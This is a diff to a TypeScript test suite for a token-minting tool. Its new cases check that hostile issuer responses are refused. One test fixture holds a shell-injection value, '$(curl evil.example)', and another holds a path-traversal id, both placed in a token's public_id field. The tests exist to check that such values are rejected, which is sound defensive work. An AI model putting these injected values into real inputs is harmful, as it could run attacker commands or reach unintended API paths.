@@ -168,7 +168,6 @@ const createAnswer = (token: unknown, extra: Record<string, unknown> = {}) =>
     api_token: {
       id: 9,
       public_id: '5f0e7c1a-0000-4000-8000-000000000009',
-      name: 'rack-gateway-api-token-20261124120000',
       created_at: new Date().toISOString(),
       ...extra,
     },
@@ -188,6 +187,14 @@ describe('hostile issuer answers: an unexpected list is an error before minting'
       'a listed token has no public_id',
       () => json(200, [{ name: 'x', created_at: '2026-01-01T00:00:00Z' }]),
       /has no string public_id/,
+    ],
+    [
+      'a listed token has an id that would run in a shell or leave its path segment',
+      () =>
+        json(200, [
+          { public_id: '$(curl evil.example)', name: 'rack-gateway-api-token-1', created_at: '2026-01-01T00:00:00Z' },
+        ]),
+      /public_id "\$\(curl evil.example\)", which is not an id/,
     ],
     ['the token list is invalid JSON under a JSON content type', () => text(200, '[{"public_id": '), /not valid JSON/],
     [
@@ -220,13 +227,30 @@ describe('hostile mint answers: the token is checked before it is written anywhe
     ['no token field at all', () => createAnswer(undefined), /missing from the answer/],
     ['invalid JSON', () => text(200, '{"token": "rgw_'), /not valid JSON/],
     ['an HTML page', () => html(), /text\/html.*not JSON/],
-    ['JSON without api_token', () => json(200, { token: `rgw_${'A'.repeat(43)}=` }), /without api_token.public_id/],
+    ['JSON without api_token', () => json(200, { token: `rgw_${'A'.repeat(43)}=` }), /answered no api_token.public_id/],
+    [
+      'an id that is not an id',
+      () => createAnswer(`rgw_${'A'.repeat(43)}=`, { public_id: '../../api-tokens?all=1' }),
+      /answered a malformed api_token.public_id/,
+    ],
   ]
   it.each(cases)('%s', async (_what, answer, error) => {
     intercept(rgw, /^POST \/api\/v1\/api-tokens$/, answer)
     const o = await run()
     expectRefused(o, error, { minted: true })
     expect(o.visible).toMatch(/could not mint/)
+  })
+
+  it('a token named otherwise than asked is refused, revoked by its id and written nowhere', async () => {
+    intercept(rgw, /^POST \/api\/v1\/api-tokens$/, () =>
+      createAnswer(`rgw_${'A'.repeat(43)}=`, { name: 'someone-elses-token' }),
+    )
+    const o = await run()
+    expectRefused(o, /is named "someone-elses-token", not rack-gateway-api-token-\d{14}\S* as asked/, { minted: true })
+    expect(o.visible).toMatch(/the token was revoked/)
+    expect(rgw.requests.map((r) => `${r.method} ${r.path}`)).toContain(
+      'DELETE /api/v1/api-tokens/5f0e7c1a-0000-4000-8000-000000000009',
+    )
   })
 
   it('the http issuer: a list that is not {items: [...]} stops the run before minting', async () => {
@@ -244,7 +268,9 @@ describe('hostile mint answers: the token is checked before it is written anywhe
   })
 
   it('the http issuer: a mint answer without a token is refused before any write', async () => {
-    intercept(hz, /^POST \/tokens$/, () => json(201, { id: 'tok_1', name: 'hz-20261124120000', token: '' }))
+    intercept(hz, /^POST \/tokens$/, (req) =>
+      json(201, { id: 'tok_1', name: (req.body as { name: string }).name, token: '' }),
+    )
     expectRefused(
       await run({
         issuer: 'http',
